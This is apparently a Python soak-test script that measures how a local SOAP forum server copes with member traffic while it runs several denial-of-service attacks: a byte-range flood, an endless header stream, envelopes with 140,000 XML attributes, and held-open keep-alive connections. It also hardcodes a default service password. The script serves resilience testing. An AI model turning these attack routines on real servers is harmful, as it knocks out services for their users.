#!/usr/bin/python3
"""Soak of varnel-server: members at work while hostile callers attack it.

Usage: abuse.py BASE_URL HOST SERVER_PID DATA.lua SECONDS

For SECONDS, members signed in from 127.0.0.1 (the IDs prepare.py wrote to
DATA.lua) make the client's calls, each on a fresh connection with the
client's 10 s limit, while attackers on other loopback addresses run:

  range     127.0.0.2  GETs of the WSDL and of a 2.3 MB question page, each
                       asking for 4,085 ranges of the whole answer
  headers   127.0.0.3  endless header lines, as fast as the server takes them
  attrs     127.0.0.4  envelopes of 980 KB with 140,000 attributes
  workers   127.0.0.5  48 kept-alive connections, and 16 from 127.0.0.6, each
                       sending a tiny GET every 4 s

It prints, for the members, the calls answered, their p50 and p99 and the
errors (the client's time limit reached, refusals, others); for the server,
its peak resident memory, its CPU time and whether it lived through it.
VARNEL_ABUSE_ATTACKS picks some of the attacks (default
"range,headers,attrs,workers"; empty for the members alone).
"""
import http.client
import os
import random
import re
import selectors
import socket
import sys
import threading
import time
from xml.sax.saxutils import escape, unescape

PATH = "/Varnel/Web/Services/VarnelServices.asmx"
CLIENT_LIMIT = 10.0  # the client's time limit for each send and receive
MEMBER_THREADS = 16
THINK = 0.1  # seconds between one member's calls


class Stats:
    def __init__(self):
        self.lock = threading.Lock()
        self.latencies = []
        self.errors = {"timeout": 0, "refused": 0, "fault": 0, "other": 0}
        self.attacks = {}

    def answered(self, seconds):
        with self.lock:
            self.latencies.append(seconds)

    def error(self, kind):
        with self.lock:
            self.errors[kind] += 1

    def attack(self, name, key, n=1):
        with self.lock:
            counts = self.attacks.setdefault(name, {})
            counts[key] = counts.get(key, 0) + n


def main():
    base, host, pid, data_path, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], float(sys.argv[5])
    port = int(base.rsplit(":", 1)[1])
    user = os.environ.get("VARNEL_SERVICE_USER", "QuilloraAgent")
    password = os.environ.get("VARNEL_SERVICE_PASSWORD", "k7Varnel#2007-svc")
    ns = "http://%s/Services/VarnelServices" % host
    with open(data_path) as f:
        data = f.read()
    members = [int(x) for x in re.search(r"members = \{([^}]*)\}", data).group(1).split(",")]
    questions = [int(x) for x in re.search(r"questions = \{([^}]*)\}", data).group(1).split(",")]
    column = int(re.search(r"column = (\d+)", data).group(1))

    def envelope(op, params, attributes=""):
        fields = "".join("<%s>%s</%s>" % (k, escape(str(v)), k) for k, v in params)
        return ('<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"%s><soap:Header>'
                '<CredentialSoapHeader xmlns="%s"><Username>%s</Username><Password>%s</Password>'
                '</CredentialSoapHeader></soap:Header><soap:Body><%s xmlns="%s">%s</%s></soap:Body></soap:Envelope>'
                % (attributes, ns, escape(user), escape(password), op, ns, fields, op)).encode()

    def soap(op, params, source="127.0.0.1", timeout=CLIENT_LIMIT):
        conn = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout, source_address=(source, 0))
        try:
            conn.request("POST", PATH, envelope(op, params),
                         {"Content-Type": "text/xml; charset=utf-8", "SOAPAction": '"%s/%s"' % (ns, op)})
            answer = conn.getresponse()
            return answer.status, answer.read().decode("utf-8", "replace")
        finally:
            conn.close()

    # A question answered 70 times with 8,000 "<" each: a page of 2.3 MB.
    big = questions[0]
    answerers = members[len(members) // 10:]
    for i in range(70):
        status, text = soap("CreatForumReply", [("forumPostID", big), ("userID", answerers[i // 5]),
                                                ("forumColumnID", column), ("contentText", "<" * 8000)],
                            timeout=60)
        if status != 200 or "<CreatForumReplyResult>true<" not in unescape(text):
            sys.exit("could not answer the big question: %d %s" % (status, text[:300]))
    big_page = "/Varnel/Web/ShowSoftPost.aspx?PostID=%d" % big
    probe = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
    probe.request("GET", big_page)
    answer = probe.getresponse()
    big_size = len(answer.read())
    probe.close()

    stats = Stats()
    stop = threading.Event()
    deadline = time.monotonic() + seconds

    def member(n):
        rng = random.Random(n)
        me = members[n % len(members)]
        while not stop.is_set():
            roll = rng.random()
            if roll < 0.6:
                op, params = "GetMessage", [("userID", me)]
            elif roll < 0.9:
                op, params = "GetForumPostListByColumn", [("forumColumnID", column), ("pageSize", 15),
                                                          ("currentPageIndex", rng.randint(1, 3))]
            else:
                op, params = "SendMessage", [("from", me), ("to", rng.choice(members)), ("msg", "hello")]
            t0 = time.monotonic()
            try:
                status, _ = soap(op, params)
                if status == 200:
                    stats.answered(time.monotonic() - t0)
                elif status == 503:
                    stats.error("refused")
                elif status == 500:
                    stats.error("fault")
                else:
                    stats.error("other")
            except socket.timeout:
                stats.error("timeout")
            except OSError:
                stats.error("other")
            except http.client.HTTPException:
                stats.error("other")
            stop.wait(THINK)

    def connect(source, timeout=30):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.bind((source, 0))
        s.settimeout(timeout)
        s.connect(("127.0.0.1", port))
        return s

    def drain(s, limit_seconds):
        total = 0
        end = time.monotonic() + limit_seconds
        try:
            while time.monotonic() < end and not stop.is_set():
                chunk = s.recv(1 << 20)
                if not chunk:
                    break
                total += len(chunk)
        except OSError:
            pass
        return total

    def range_attack(n):
        ranges = "bytes=" + ",".join(["-"] * 4085)
        targets = [PATH + "?wsdl", big_page]
        i = n
        while not stop.is_set():
            target = targets[i % 2]
            i += 1
            try:
                s = connect("127.0.0.2")
                s.sendall(("GET %s HTTP/1.1\r\nHost: %s\r\nRange: %s\r\nConnection: close\r\n\r\n"
                           % (target, host, ranges)).encode())
                stats.attack("range", "bytes answered", drain(s, 30))
                stats.attack("range", "requests")
                s.close()
            except OSError:
                stats.attack("range", "connection errors")
                stop.wait(0.2)

    def header_flood(n):
        chunk = b"a:b\r\n" * 13000
        while not stop.is_set():
            sent = 0
            try:
                s = connect("127.0.0.3", timeout=2)
                s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")
                end = time.monotonic() + 9.5
                while time.monotonic() < end and not stop.is_set():
                    s.sendall(chunk)
                    sent += len(chunk)
                if not stop.is_set():
                    stats.attack("headers", "floods taken whole")
            except OSError:
                # The server stopped taking it: did it say why first?
                try:
                    answer = s.recv(64)
                except OSError:
                    answer = b""
                stats.attack("headers", "floods cut off" + (" by a " + answer[9:12].decode() if answer[:5] == b"HTTP/"
                                                             else ""))
                stop.wait(0.2)
            stats.attack("headers", "MB sent", sent >> 20)
            try:
                s.close()
            except OSError:
                pass

    letters = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
    names = []
    for a in letters:
        for b in letters:
            for c in letters:
                names.append(a + b + c)
                if len(names) == 140000:
                    break
            if len(names) == 140000:
                break
        if len(names) == 140000:
            break
    many_attributes = "".join(' %s=""' % name for name in names)
    heavy = envelope("GetForumPostListByColumn", [("forumColumnID", column), ("pageSize", 15),
                                                  ("currentPageIndex", 1)], many_attributes)

    def attribute_attack(n):
        while not stop.is_set():
            try:
                s = connect("127.0.0.4", timeout=120)
                s.sendall(("POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: text/xml; charset=utf-8\r\n"
                           "Content-Length: %d\r\nConnection: close\r\n\r\n" % (PATH, host, len(heavy))).encode()
                          + heavy)
                drain(s, 120)
                stats.attack("attrs", "requests")
                s.close()
            except OSError:
                stats.attack("attrs", "connection errors")
                stop.wait(0.2)

    def hold_workers():
        sel = selectors.DefaultSelector()
        slots = [("127.0.0.5", None, 0.0)] * 48 + [("127.0.0.6", None, 0.0)] * 16
        request = ("GET /Varnel/Web/versioncheck.txt HTTP/1.1\r\nHost: %s\r\n\r\n" % host).encode()
        while not stop.is_set():
            now = time.monotonic()
            for i, (source, s, due) in enumerate(slots):
                if s is None:
                    try:
                        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                        s.bind((source, 0))
                        s.setblocking(False)
                        s.connect_ex(("127.0.0.1", port))
                        sel.register(s, selectors.EVENT_READ, i)
                        stats.attack("workers", "connections")
                        due = now
                    except OSError:
                        s = None
                        continue
                if due <= now:
                    try:
                        s.send(request)
                        stats.attack("workers", "requests")
                    except OSError:
                        pass
                    due = now + 4.0
                slots[i] = (source, s, due)
            for key, _ in sel.select(timeout=0.2):
                i = key.data
                source, s, due = slots[i]
                try:
                    chunk = s.recv(65536)
                except BlockingIOError:
                    continue
                except OSError:
                    chunk = b""
                if not chunk:
                    sel.unregister(s)
                    s.close()
                    stats.attack("workers", "closed by server")
                    slots[i] = (source, None, 0.0)
        for source, s, due in slots:
            if s is not None:
                s.close()

    peak = {"rss": 0, "died": None}

    def cpu_seconds():
        with open("/proc/%d/stat" % pid) as f:
            fields = f.read().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def watch():
        while not stop.is_set():
            try:
                with open("/proc/%d/status" % pid) as f:
                    for line in f:
                        if line.startswith("VmRSS:") or line.startswith("VmHWM:"):
                            peak["rss"] = max(peak["rss"], int(line.split()[1]))
                with open("/proc/%d/stat" % pid) as f:
                    if f.read().rsplit(")", 1)[1].split()[0] == "Z":
                        raise FileNotFoundError
            except (FileNotFoundError, ProcessLookupError):
                if peak["died"] is None:
                    peak["died"] = seconds - (deadline - time.monotonic())
                return
            stop.wait(0.2)

    cpu_before = cpu_seconds()
    rss_before = 0
    with open("/proc/%d/status" % pid) as f:
        for line in f:
            if line.startswith("VmRSS:"):
                rss_before = int(line.split()[1])
    chosen = os.environ.get("VARNEL_ABUSE_ATTACKS", "range,headers,attrs,workers").split(",")
    threads = [threading.Thread(target=watch)]
    threads += [threading.Thread(target=member, args=(n,)) for n in range(MEMBER_THREADS)]
    if "range" in chosen:
        threads += [threading.Thread(target=range_attack, args=(n,)) for n in range(2)]
    if "headers" in chosen:
        threads += [threading.Thread(target=header_flood, args=(n,)) for n in range(2)]
    if "attrs" in chosen:
        threads += [threading.Thread(target=attribute_attack, args=(n,)) for n in range(2)]
    if "workers" in chosen:
        threads += [threading.Thread(target=hold_workers)]
    for t in threads:
        t.daemon = True
        t.start()
    while time.monotonic() < deadline and peak["died"] is None:
        time.sleep(0.2)
    stop.set()
    try:
        cpu = cpu_seconds() - cpu_before
    except (FileNotFoundError, ProcessLookupError):
        cpu = None
    for t in threads:
        t.join(timeout=15)

    with stats.lock:
        lat = sorted(stats.latencies)
        errors = dict(stats.errors)
        attacks = {k: dict(v) for k, v in stats.attacks.items()}

    def pct(p):
        return lat[min(len(lat) - 1, int(p * len(lat)))] * 1000 if lat else float("nan")

    print("question page under attack: %d bytes" % big_size)
    print("members (%d, a fresh connection per call, %d s limit):" % (MEMBER_THREADS, CLIENT_LIMIT))
    print("  answered %d (%.1f/s)  p50 %.1f ms  p99 %.1f ms  errors %d (time limit %d, 503 %d, SOAP fault %d, "
          "other %d)" % (len(lat), len(lat) / seconds, pct(0.5), pct(0.99), sum(errors.values()), errors["timeout"],
                         errors["refused"], errors["fault"], errors["other"]))
    print("attacks:")
    for name in ("range", "headers", "attrs", "workers"):
        counts = attacks.get(name, {})
        print("  %-8s %s" % (name, ", ".join("%s %d" % (k, v) for k, v in sorted(counts.items())) or "-"))
    print("server:")
    print("  peak RSS %.0f MB (%.0f MB before)  CPU %s  %s"
          % (peak["rss"] / 1024, rss_before / 1024,
             "%.1f s (%.0f %% of a core)" % (cpu, 100 * cpu / seconds) if cpu is not None else "unknown",
             "died after %.0f s" % peak["died"] if peak["died"] is not None else "alive at the end"))
    print("RESULT %d %.1f %.1f %d %d %d %d %d %.0f %s %s" % (
        len(lat), pct(0.5), pct(0.99), sum(errors.values()), errors["timeout"], errors["refused"],
        errors["fault"], errors["other"], peak["rss"] / 1024, "%.1f" % cpu if cpu is not None else "-",
        "died" if peak["died"] is not None else "alive"))


if __name__ == "__main__":
    main()
